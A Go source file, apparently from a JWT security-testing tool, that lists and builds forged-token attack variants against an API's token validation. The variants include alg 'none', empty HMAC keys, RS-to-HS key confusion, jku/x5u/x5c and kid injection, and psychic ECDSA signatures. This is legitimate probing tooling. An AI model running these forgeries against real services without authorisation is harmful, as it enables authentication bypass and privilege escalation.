package forge

import (
	"crypto"
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/jwtkit/jwtkit/internal/human"
	"github.com/jwtkit/jwtkit/pkg/keys"
)

// VariantInfo describes one variant id of the catalogue.
type VariantInfo struct {
	ID    string `json:"id"`    // "<check-id>/<variant>"
	Check string `json:"check"` // the probe check that sends it
	What  string `json:"what"`  // what it tests
	Needs string `json:"needs"` // "token", "signing key", "public key", "key file", "ES token", "callback"
}

// Material is what the variants beyond the token need. A variant whose
// input is missing is skipped with the reason (Made.Skipped).
type Material struct {
	Key        *keys.Key        // the signing key or secret (re-minted variants, unknown-crit)
	PublicKey  crypto.PublicKey // the issuer's public key (key-confusion)
	KeyFile    []byte           // the public key file exactly as given (key-confusion)
	JWKSKey    crypto.PublicKey // a key from the JWKS the API publishes (key-confusion)
	Attacker   *Attacker        // x5c, and the base of Callback
	Callback   *Callback        // jku, x5u, issuer discovery
	Now        time.Time        // the clock of re-minted variants
	Marker     string           // claim-reflection marker prefix ("" = "jwtkitmarker")
	Roles      []string         // roles authz.insufficient-role takes out
	RolesClaim string
}

// Made is the outcome of Make: the variants and, for those the material
// cannot make, why.
type Made struct {
	Variants []Forged
	Skipped  []string
	// Markers maps each claim-reflection marker to its claim.
	Markers map[string]string
}

func (m *Made) skip(format string, a ...any) {
	m.Skipped = append(m.Skipped, fmt.Sprintf(format, a...))
}

// Checks lists the check ids that have variants, in catalogue order.
func Checks() []string {
	var out []string
	for _, v := range Variants() {
		if !slices.Contains(out, v.Check) {
			out = append(out, v.Check)
		}
	}
	return out
}

// Variants is the catalogue of every variant id Make can produce.
func Variants() []VariantInfo {
	var out []VariantInfo
	add := func(check, slug, needs, what string) {
		out = append(out, VariantInfo{ID: check + "/" + slug, Check: check, What: what, Needs: needs})
	}
	add("jwt.tampered-payload", "claim", "token", "iat moved a second earlier (else exp or nbf, else a claim added), original signature kept: accepted only when the signature is never checked; who the caller is stays the same")
	add("jwt.bad-signature", "flipped-bits", "token", "signature bytes altered")
	add("jwt.null-signature", "empty", "token", "empty signature, original alg kept (CVE-2020-28042)")
	for _, n := range NoneCasings() {
		add("jwt.alg-none", n, "token", fmt.Sprintf("alg %q with an empty signature", n))
	}
	add("jwt.alg-none", "none-original-signature", "token", `alg "none" keeping the original signature`)
	add("jwt.alg-none", "none-two-segments", "token", `alg "none" without a signature segment`)
	for _, a := range hmacAlgs() {
		add("jwt.blank-hmac", a, "token", a+" with an empty key (CVE-2019-20933)")
	}
	for _, prefix := range []string{"", "jwks-"} {
		needs, what := "public key", "the public key"
		if prefix != "" {
			needs, what = "published JWKS", "the key of the JWKS the API publishes"
		}
		for _, e := range []struct{ slug, name string }{{"spki-pem", "SPKI PEM"}, {"spki-pem-no-newline", "SPKI PEM without trailing newline"}, {"pkcs1-pem", "PKCS#1 PEM (RSA)"}, {"spki-der", "SPKI DER"}, {"jwk", "JWK JSON"}} {
			add("jwt.key-confusion", prefix+"HS256-"+e.slug, needs, "HS256 keyed with "+what+" as "+e.name)
		}
		for _, a := range hmacAlgs()[1:] {
			add("jwt.key-confusion", prefix+a+"-spki-pem", needs, a+" keyed with "+what+" as SPKI PEM")
		}
	}
	for _, e := range []struct{ slug, name string }{{"key-file", "the exact bytes of the key file"}, {"key-file-no-newline", "the key file without its trailing newline"}, {"key-file-crlf", "the key file with CRLF line ends"}, {"key-file-der", "the raw DER of the key file's PEM block"}} {
		add("jwt.key-confusion", "HS256-"+e.slug, "key file", "HS256 keyed with "+e.name)
	}
	add("jwt.embedded-jwk", "fresh-key", "token", "signed with a fresh key embedded in the jwk header (CVE-2018-0114)")
	add("jwt.jku-injection", "jwks-with-kid", "callback", "signed with a fresh key, jku naming the callback's JWKS, the token's kid kept")
	add("jwt.jku-injection", "jwks-without-kid", "callback", "signed with a fresh key, jku naming the callback's JWKS, no kid")
	add("jwt.x5u-injection", "pem-chain", "callback", "signed with a fresh key, x5u naming the callback's PEM chain (its leaf and a fresh CA)")
	add("jwt.x5c-injection", "self-signed", "token", "signed with a fresh key, its self-signed certificate in x5c")
	add("jwt.x5c-injection", "chain", "token", "signed with a fresh key, x5c holding its leaf certificate and a fresh CA")
	add("jwt.issuer-discovery-injection", "discovery", "callback", "signed with a fresh key, iss naming the callback, which serves discovery and jwks_uri")
	for _, p := range kidPayloads() {
		add("jwt.kid-injection", p.slug, "token", "HS256, kid: "+p.reason)
	}
	for _, a := range esAlgs() {
		add("jwt.psychic-signature", a.Name+"-zero", "ES token", a.Name+" with r = s = 0 (CVE-2022-21449)")
	}
	add("jwt.psychic-signature", "der-zero", "ES token", "the token's alg with r = s = 0 in DER form")
	for _, age := range ExpiredAges() {
		add("jwt.expired", human.Exact(age), "signing key", "exp "+human.Exact(age)+" ago (leeway sub-probe)")
	}
	add("jwt.nbf-future", "1h", "signing key", "nbf one hour ahead")
	add("jwt.no-exp", "removed", "signing key", "exp removed")
	add("resp.server-error", "scope-number", "signing key", "scope is a number: a crash here is a denial of service")
	add("resp.server-error", "sub-array", "signing key", "sub is an array")
	add("resp.server-error", "exp-huge", "signing key", "exp is 10^20")
	add("resp.server-error", "roles-nested", "signing key", "the roles claim nested in an array")
	add("jwt.wrong-issuer", "foreign", "signing key", "iss "+ForeignIssuer)
	add("jwt.wrong-issuer", "removed", "signing key", "iss removed (when the token has one)")
	add("jwt.wrong-audience", "foreign", "signing key", "aud "+ForeignAudience)
	add("jwt.wrong-audience", "removed", "signing key", "aud removed (when the token has one)")
	add("jwt.unknown-crit", CritExtension, "signing key", fmt.Sprintf("crit [%q], real signature (RFC 7515 §4.1.11)", CritExtension))
	add("jwt.claim-reflection", "markers", "token", "every string claim set to a unique marker, signature broken")
	add("authz.insufficient-role", "without-roles", "signing key", "the required roles taken out of the roles claim")
	return out
}

// Make builds the variants of one check (a check id of Checks) from the
// token and m. Variants the material cannot make are listed in Skipped.
func (f *Forger) Make(check string, m Material) (Made, error) {
	var made Made
	add := func(vs ...Forged) { made.Variants = append(made.Variants, vs...) }
	now := m.Now
	if now.IsZero() {
		now = time.Now()
	}
	signing := m.Key != nil && m.Key.IsPrivate()
	needKey := func() bool {
		if !signing {
			made.skip("%s: needs the signing key or secret (the variants are re-signed with it)", check)
		}
		return signing
	}
	var err error
	switch check {
	case "jwt.tampered-payload":
		add(f.TamperedPayload())
	case "resp.server-error":
		if !needKey() {
			break
		}
		var vs []Forged
		if vs, err = f.ClaimTypes(m.Key, now, m.RolesClaim); err == nil {
			add(vs...)
		}
	case "jwt.bad-signature":
		add(f.BadSignature())
	case "jwt.null-signature":
		add(f.NullSignature())
	case "jwt.alg-none":
		add(f.AlgNone()...)
	case "jwt.blank-hmac":
		add(f.BlankHMAC()...)
	case "jwt.key-confusion":
		if strings.HasPrefix(f.Alg(), "HS") {
			made.skip("%s: the token is %s; key confusion needs an asymmetric (RS, PS, ES or EdDSA) token", check, f.Alg())
			break
		}
		if m.PublicKey == nil && m.JWKSKey == nil {
			made.skip("%s: needs the issuer's public key (--key) or a published JWKS", check)
		}
		if m.PublicKey != nil {
			vs, err := f.KeyConfusion(m.PublicKey)
			if err != nil {
				return made, err
			}
			add(vs...)
		}
		if len(m.KeyFile) > 0 {
			add(f.KeyFileConfusion(m.KeyFile)...)
		}
		if m.JWKSKey != nil && !sameKey(m.JWKSKey, m.PublicKey) {
			vs, err := f.KeyConfusionJWKS(m.JWKSKey)
			if err != nil {
				return made, err
			}
			add(vs...)
		}
	case "jwt.embedded-jwk":
		v, err := f.EmbeddedJWK()
		if err != nil {
			return made, err
		}
		add(v)
	case "jwt.jku-injection", "jwt.x5u-injection", "jwt.issuer-discovery-injection":
		if m.Callback == nil {
			made.skip("%s: needs a callback URL the target can reach (--callback-url)", check)
			break
		}
		switch check {
		case "jwt.jku-injection":
			vs, err := f.JKUInjection(m.Callback)
			if err != nil {
				return made, err
			}
			add(vs...)
		case "jwt.x5u-injection":
			v, err := f.X5UInjection(m.Callback)
			if err != nil {
				return made, err
			}
			add(v)
		default:
			v, err := f.IssuerDiscovery(m.Callback)
			if err != nil {
				return made, err
			}
			add(v)
		}
	case "jwt.x5c-injection":
		a := m.Attacker
		if a == nil {
			kid, _ := f.header["kid"].(string)
			if a, err = NewAttacker(f.Alg(), kid, now); err != nil {
				return made, err
			}
		}
		vs, err := f.X5CInjection(a)
		if err != nil {
			return made, err
		}
		add(vs...)
	case "jwt.kid-injection":
		add(f.KIDInjection()...)
	case "jwt.psychic-signature":
		vs := f.PsychicSignature()
		if len(vs) == 0 {
			made.skip("%s: the token is %s; the psychic signature applies to ECDSA (ES*) tokens", check, f.Alg())
		}
		add(vs...)
	case "jwt.expired":
		if needKey() {
			for _, age := range ExpiredAges() {
				v, err := f.ExpiredBy(m.Key, now, age)
				if err != nil {
					return made, err
				}
				add(v)
			}
		}
	case "jwt.nbf-future", "jwt.no-exp", "jwt.unknown-crit":
		if needKey() {
			var v Forged
			switch check {
			case "jwt.nbf-future":
				v, err = f.NotYetValid(m.Key, now)
			case "jwt.no-exp":
				v, err = f.WithoutExp(m.Key, now)
			default:
				v, err = f.UnknownCrit(m.Key)
			}
			if err != nil {
				return made, err
			}
			add(v)
		}
	case "jwt.wrong-issuer", "jwt.wrong-audience":
		if needKey() {
			var vs []Forged
			if check == "jwt.wrong-issuer" {
				vs, err = f.WrongIssuer(m.Key, now)
			} else {
				vs, err = f.WrongAudience(m.Key, now)
			}
			if err != nil {
				return made, err
			}
			add(vs...)
		}
	case "jwt.claim-reflection":
		marker := m.Marker
		if marker == "" {
			marker = "jwtkitmarker"
		}
		v, markers := f.ClaimReflection(marker)
		add(v)
		made.Markers = markers
	case "authz.insufficient-role":
		if len(m.Roles) == 0 {
			made.skip("%s: needs the roles the endpoint requires (--role)", check)
			break
		}
		if needKey() {
			v, err := f.WithoutRoles(m.Key, now, m.RolesClaim, m.Roles)
			if err != nil {
				return made, err
			}
			add(v)
		}
	default:
		return made, fmt.Errorf("%w: no variants for %q", ErrForge, check)
	}
	return made, nil
}

func sameKey(a, b crypto.PublicKey) bool {
	if a == nil || b == nil {
		return false
	}
	e, ok := a.(interface{ Equal(crypto.PublicKey) bool })
	return ok && e.Equal(b)
}
